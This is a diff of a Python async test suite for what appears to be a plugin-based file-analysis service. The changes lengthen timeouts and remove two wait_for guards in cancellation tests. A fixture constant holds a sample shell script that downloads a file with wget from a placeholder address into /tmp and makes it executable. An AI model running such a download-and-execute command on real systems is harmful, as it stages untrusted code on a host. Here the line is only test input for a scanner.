@@ -36,7 +36,7 @@ SCRIPT = b"#!/bin/sh\nwget http://192.0.2.1/x -O /tmp/x\nchmod +x /tmp/x\n"
 SLEEPER = """
 import time
 def run(context):
-    time.sleep(30)
+    time.sleep(600)
 """
 READER = """
 def run(context):
@@ -239,7 +239,7 @@ async def test_a_cancelled_stage_ends_at_once_and_names_what_did_not_run(bench: 
     await bench.order(SCRIPT, "identity", "sleeper", "yara")
     await bench.hear(PluginStarted, 2)
     await bench.cancel("static")
-    [completed] = await asyncio.wait_for(bench.hear(PluginStageCompleted), 10)
+    [completed] = await bench.hear(PluginStageCompleted)
     assert completed.ended_by == "cancelled"
     assert len(completed.result_ids) == 1
     assert [(error.plugin, error.outcome) for error in completed.errors] == [
@@ -252,7 +252,7 @@ async def test_a_cancellation_that_overtakes_the_order_holds(bench: Bench) -> No
     """No plugin runs."""
     await bench.cancel("static")
     await bench.order(SCRIPT, "sleeper")
-    [completed] = await asyncio.wait_for(bench.hear(PluginStageCompleted), 10)
+    [completed] = await bench.hear(PluginStageCompleted)
     assert completed.ended_by == "cancelled"
     assert [error.plugin for error in completed.errors] == ["sleeper"]
 
@@ -301,8 +301,8 @@ async def test_a_service_that_is_killed_in_the_middle_finishes_after_its_return(
 
 
 async def until(holds: Callable[[], bool]) -> None:
-    """It holds. Raises TimeoutError after twenty seconds."""
-    async with asyncio.timeout(20):
+    """It holds. Raises TimeoutError after a minute."""
+    async with asyncio.timeout(60):
         while not holds():  # noqa: ASYNC110 - another process changes it
             await asyncio.sleep(0.05)
 
